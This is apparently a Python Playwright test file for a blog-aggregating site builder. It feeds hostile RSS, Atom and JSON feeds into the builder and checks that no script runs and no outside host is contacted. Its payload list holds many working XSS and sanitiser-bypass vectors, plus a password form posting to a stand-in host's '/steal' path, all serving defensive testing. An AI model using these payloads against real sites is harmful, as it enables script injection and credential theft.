"""Feeds that mean harm, gathered and built to the page: in Chromium no script runs, nothing is asked elsewhere."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from html import escape
from pathlib import Path

import feedparser
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.support import project, sample
from tests.support.chromium import open_search
from tests.support.kinds import addresses, file_of
from tests.support.server import serve
from tests.support.thorough import some
from tests.support.webserver import document, serving

E = "https://elsewhere.test"
#: What each of these would do, could it do anything: say something in a dialog, or ask another host.
PAYLOADS = (
    # Scripts, plain and broken
    "<script>alert(1)</script>",
    f"<script src='{E}/x.js'></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script>alert(1)<!--",
    "]]><script>alert(1)</script>",
    # Events
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img src=`x`onerror=alert(1)>",
    '<img alt="`"><script>alert(1)</script>"`>',
    "<p onmouseover=alert(1) style='position:fixed;inset:0'>over</p>",
    "<details open ontoggle=alert(1)><summary>s</summary>d</details>",
    "<body onload=alert(1)>",
    "<a href=x autofocus tabindex=1 onfocus=alert(1)>focus</a>",
    "<b onanimationstart=alert(1) style='animation-name:fk'>b</b>",
    "<video autoplay onloadstart=alert(1)><source src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>m</marquee>",
    # Schemes, plain and hidden
    "<a href='javascript:alert(1)'>link</a>",
    "<a href=' \x01javascript:alert(1)'>link</a>",
    "<a href='jav&#x09;ascript:alert(1)'>link</a>",
    "<a href='java\nscript:alert(1)'>link</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>link</a>",
    "<a href='javascript&colon;alert(1)'>link</a>",
    "<a href='JaVaScRiPt:alert(1)'>link</a>",
    "<a href='vbscript:msgbox(1)'>link</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>link</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>link</a>",
    "<a href='view-source:javascript:alert(1)'>link</a>",
    "<a href='//elsewhere.test/x' ping='https://elsewhere.test/ping'>link</a>",
    # Foreign elements, and what browsers make of them
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>t</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'></svg>",
    f"<svg><image href='{E}/i.png' /><use href='{E}/u.svg#a' /></svg>",
    "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>m</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)></style>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    # Text that is markup once it is read again
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<style><p title='</style><img src=x onerror=alert(1)>'></style>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--a--!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml x><img src=x onerror=alert(1)>?>",
    "<a title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>quoted</a>",
    "</p></div></article></main></body></html><script>alert(1)</script>",
    "<p>" * 300 + "<script>alert(1)</script>",
    "<table>" * 40 + "<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ ''.__class__ }}{% include 'entry.html' %}{# c #}",
    "${alert(1)} #{alert(1)} <%= 1 %>",
    # What asks another host, or leads away, by itself
    f"<img src='{E}/pixel.gif' width=1 height=1>",
    f"<img src='{E}/large.png' srcset='{E}/2x.png 2x' alt='A picture'>",
    f"<picture><source srcset='{E}/s.webp'><img src='{E}/s.png'></picture>",
    f"<iframe src='{E}/frame'></iframe><iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src='https://www.youtube.com/embed/abc123def45' onload=alert(1)></iframe>",
    f"<object data='{E}/o.swf'></object><embed src='{E}/e.swf'><applet code=x></applet>",
    f"<audio src='{E}/a.mp3' autoplay></audio><video poster='{E}/p.png' src='{E}/v.mp4'></video>",
    f"<meta http-equiv=refresh content='0;url={E}/away'>",
    f"<base href='{E}/'>",
    f"<link rel=stylesheet href='{E}/s.css'><link rel=prefetch href='{E}/p'><link rel=import href='{E}/i'>",
    f"<style>@import '{E}/s.css'; body {{ background: url({E}/b.png) }}</style>",
    f"<div style='background: url({E}/d.png)'>d</div><td background='{E}/t.png'>t</td>",
    f"<form action='{E}/steal'><input name=password type=password autofocus><button>Log in</button></form>",
    f"<input type=image src='{E}/i.png' formaction='javascript:alert(1)'><isindex action='javascript:alert(1)'>",
    f"<frameset><frame src='{E}/f'></frameset>",
    f"<body background='{E}/b.png'>",
    f"<a href='{E}/x' target=_top class=md-header id=__search data-md-component=search download>names of ours</a>",
)
#: Words of the feeds: a page without one of them has nothing of theirs.
GATHERED = ("HOSTILE", "Frogs", "alert", "elsewhere.test", "blog.test")
TITLE = "</title><script>alert(1)</script><img src=x onerror=alert(1)>Frogs"
#: Finds what could act in a document, or is not ours: gives a line for each.
HARMFUL = """root => {
  const found = [];
  for (const element of root.querySelectorAll('*')) {
    const name = element.localName, text = element.outerHTML.slice(0, 120);
    if (['script', 'style', 'iframe', 'object', 'embed', 'applet', 'form', 'input', 'button', 'textarea', 'base',
         'meta', 'link', 'svg', 'math', 'template', 'noscript', 'audio', 'video', 'source', 'picture', 'frame',
        ].includes(name)) found.push(`element: ${text}`);
    for (const {name: attribute, value} of element.attributes) {
      const ours = name === 'a' && attribute === 'class' && (value === 'fk-video' || value === 'fk-embed');
      if (!ours && /^on|^(style|id|class|srcset|ping|formaction|background|poster|srcdoc|action|target|autofocus)$/
          .test(attribute)) found.push(`attribute: ${text}`);
      if (['href', 'src', 'cite'].includes(attribute) && !/^(https?:|mailto:)/.test(value))
        found.push(`address: ${text}`);
      if (attribute === 'src') found.push(`loads: ${text}`);
    }
  }
  return found;
}"""

#: The same for the gathered part of a page as it was written, and every address in all of it.
ON_A_PAGE = f"""([html, gathered]) => {{
  const page = new DOMParser().parseFromString(html, 'text/html');
  return [
    ...[...page.querySelectorAll(gathered ? 'main .fk-prose' : 'no-such')].flatMap({HARMFUL}),
    ...[...page.querySelectorAll('[href], [src]')].map(one => one.getAttribute('href') ?? one.getAttribute('src'))
      .filter(to => /^[\\s\\x00-\\x1f]*(javascript|vbscript|data|view-source):/i.test(to)),
  ];
}}"""


def rss() -> bytes:
    items = "".join(
        f"<item><guid isPermaLink='false'>r{n}</guid><title>{escape(escape(TITLE))} {n}</title>"
        f"<link>{escape(link(n))}</link><category>{escape(escape(TITLE))}</category>"
        f"<author>{escape(TITLE)}</author><pubDate>Mon, 02 Nov 2026 10:00:00 GMT</pubDate>"
        f"<enclosure url='{escape(link(n + 1), quote=True)}' type='\"&gt;&lt;script&gt;alert(1)&lt;/script&gt;' "
        f"length='1'/><description>{escape(sayable(payload))}Frogs</description>"
        f"<content:encoded>{escape('<p>Frogs</p>' + sayable(payload) + '<p>and after</p>')}</content:encoded></item>"
        for n, payload in enumerate(PAYLOADS)
    )
    return (
        "<rss version='2.0' xmlns:content='http://purl.org/rss/1.0/modules/content/'><channel>"
        f'<title>{escape(escape(TITLE))}</title><link>javascript:alert(1)</link><language>en"onload=alert(1)</language>'
        f"{items}</channel></rss>"
    ).encode()


def atom() -> bytes:
    """Markup as XML, where nothing is escaped and namespaces are at hand."""
    body = (
        "<p onclick='alert(1)'>Frogs</p><script>alert(1)</script><img src='x' onerror='alert(1)'/>"
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script><a href='javascript:alert(1)'>l</a>"
        f"<iframe src='{E}/f'/>"
    )
    return (
        "<feed xmlns='http://www.w3.org/2005/Atom' xml:base='javascript:alert(1)//'><title>Atom</title>"
        "<id>tag:a.test,2026:a</id><updated>2026-11-02T10:00:00Z</updated>"
        "<entry><id>tag:a.test,2026:1</id><title type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'>Frogs "
        "<script>alert(1)</script></div></title><updated>2026-11-02T10:00:00Z</updated>"
        f"<author><name>{escape(TITLE)}</name><uri>javascript:alert(1)</uri></author>"
        "<link href='javascript:alert(1)'/>"
        f"<content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'>{body}</div></content></entry>"
        "<entry><id>javascript:alert(1)</id><title type='html'>&lt;script>alert(1)&lt;/script>Frogs</title>"
        f"<updated>2026-11-02T10:00:00Z</updated><content type='text/html' src='{E}/remote'/></entry></feed>"
    ).encode()


def json_feed() -> bytes:
    items = [
        {"id": f"j{n}", "url": link(n), "title": TITLE, "content_html": f"<p>Frogs</p>{payload}",
         "image": f"{E}/i.png", "banner_image": "javascript:alert(1)", "date_published": "2026-11-02T10:00:00Z",
         "tags": [TITLE], "authors": [{"name": TITLE, "url": "javascript:alert(1)", "avatar": f"{E}/a.png"}]}
        for n, payload in enumerate(PAYLOADS[::6])
    ]  # fmt: skip
    feed = {"version": "https://jsonfeed.org/version/1.1", "title": TITLE, "icon": f"{E}/icon.png", "items": items}
    return json.dumps(feed).encode()


def link(number: int) -> str:
    """Addresses of entries: some do harm, some break out of an attribute, some are fine."""
    return (
        f"https://blog.test/{number}/", "javascript:alert(1)", f"https://blog.test/{number}/\"onmouseover=alert(1)//",
        "data:text/html,<script>alert(1)</script>", f"//blog.test/{number}/'><script>alert(1)</script>",
    )[number % 5]  # fmt: skip


def sayable(payload: str) -> str:
    """XML can't hold a control character at all."""
    return payload.replace("\x01", "")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A site that follows these three in full, gathered over HTTP."""
    folder = tmp_path_factory.mktemp("hostile-feed")
    feeds = {
        "rss": document(rss()),
        "atom": document(atom(), "application/atom+xml"),
        "json": document(json_feed(), "application/feed+json"),
    }
    with serving({f"/{name}": behaviour for name, behaviour in feeds.items()}) as server:
        listed = "".join(
            f"- {{id: {name}-blog, title: 'HOSTILE', url: 'https://{name}.test/', feed: '{server.url('/' + name)}', "
            "show: full}\n"
            for name in feeds
        )
        project.write(folder, *project.ALL, files={"blogs.yml": listed})
        said = sample.run(folder, "flipkit", "gather", "--allow-network", "127.0.0.0/8", "--json")
    totals = {line["blog"]: line["total"] for line in map(json.loads, said.splitlines())}
    assert totals == {"rss-blog": len(PAYLOADS), "atom-blog": 2, "json-blog": len(PAYLOADS[::6])}
    sample.run(folder, "flipkit", "build", "--quiet")
    return folder / "site"


@pytest.fixture(scope="module")
def hostile_url(hostile: Path) -> Iterator[str]:
    with serve(hostile) as url:
        yield url


def watch(context: BrowserContext) -> tuple[list[str], list[str]]:
    """Note what scripts say, and every address asked for; nothing is let out."""
    said: list[str] = []
    asked: list[str] = []

    def hear(words: str) -> None:
        said.append(words)

    context.expose_function("fkSaid", hear)
    context.add_init_script("window.alert = window.confirm = window.prompt = words => fkSaid(String(words))")
    context.on("request", lambda request: asked.append(request.url))
    return said, asked


def entries(site: Path) -> list[str]:
    """The pages of entries."""
    return [url for url in addresses(site) if url.startswith("blogs/") and url.split("/")[1].endswith("-blog")]


def test_no_page_runs_anything_or_asks_another_host(browser: Browser, hostile: Path, hostile_url: str) -> None:
    context = browser.new_context()
    said, asked = watch(context)
    page = context.new_page()
    own = (hostile_url, "data:", "blob:", "about:")
    harmful: list[str] = []
    strayed: list[str] = []
    passed: list[str] = []
    pages_of_entries = entries(hostile)
    # A hundred pages differ in what was gathered; what Material's own script does is the same on each of them.
    # It is empty for them; whatever is routed by Playwright is asked for by way of Playwright, each single file.
    (bundle,) = (hostile / "assets/javascripts").glob("bundle.*.js")
    script = bundle.read_bytes()
    bundle.write_bytes(b"")
    others = [each for each in addresses(hostile) if each not in pages_of_entries]
    opened = {"", "blogs/", *some(pages_of_entries, 12), *some(others, 2)}
    for address in [*pages_of_entries, *others]:
        if address not in pages_of_entries:
            bundle.write_bytes(script)
        written = file_of(hostile, address).read_text("utf-8")
        if 'http-equiv="refresh"' in written:  # leads to another page of ours, which is looked at, too
            assert re.findall(r"url=((?:\.\./)+)chats/", written), address
            continue
        if not any(word in written for word in GATHERED):  # nothing of theirs stands on it
            passed.append(address)
            continue
        if address not in opened:
            harmful += page.evaluate(ON_A_PAGE, [written, address[:6] == "blogs/"])
            continue
        page.goto(hostile_url + address)
        page.mouse.move(300, 300)  # over what lies there
        page.keyboard.press("Tab")
        if page.url.partition("#")[0] != hostile_url + address:
            strayed.append(f"{address} -> {page.url}")
        # As it was written: the base's scripts add what they need themselves.
        harmful += page.evaluate(ON_A_PAGE, [written, address[:6] == "blogs/"])
    context.close()
    assert said == []
    assert [url for url in asked if not url.startswith(own)] == []
    assert harmful == []
    assert strayed == []
    assert len(pages_of_entries) >= len(PAYLOADS)
    assert not {"", "blogs/", *pages_of_entries} & {*passed}


def test_the_search_dialog_shows_words(page: Page, hostile_url: str) -> None:
    said, asked = watch(page.context)
    page.goto(hostile_url, wait_until="networkidle")
    open_search(page)
    page.keyboard.type("frogs", delay=15)
    results = page.locator(".md-search-result__item")
    expect(results.first).to_be_visible()
    page.wait_for_timeout(300)
    assert said == []
    assert [url for url in asked if not url.startswith((hostile_url, "data:", "blob:"))] == []
    assert page.locator(".md-search-result script, .md-search-result img, .md-search-result svg use").count() == 0


def test_our_feeds_pass_nothing_on(page: Page, hostile: Path, hostile_url: str) -> None:
    held: list[str] = []
    for file in sorted((hostile / "blogs").rglob("*.atom")):
        found = feedparser.parse(file.read_bytes(), sanitize_html=False, resolve_relative_uris=False)
        assert found.bozo == 0, file
        for entry in found.entries:
            texts = [*entry.get("content", ()), *filter(None, [entry.get("summary_detail")])]
            held += [part.value for part in texts if part.type != "text/plain"]  # words, where no tag is one
            linked = [one.href for one in entry.get("links", ())]
            assert [to for to in linked if not to.startswith(("https://", "http://"))] == []
    for file in sorted((hostile / "blogs").rglob("feed.json")):
        for item in json.loads(file.read_bytes())["items"]:
            held.append(item.get("content_html", ""))
            assert item.get("url", "https://").startswith(("https://", "http://"))
    assert held
    page.goto(f"{hostile_url}404.html")
    harmful = page.evaluate(
        f"texts => texts.flatMap(text => ({HARMFUL})(new DOMParser().parseFromString(text, 'text/html').body))", held
    )
    assert harmful == []
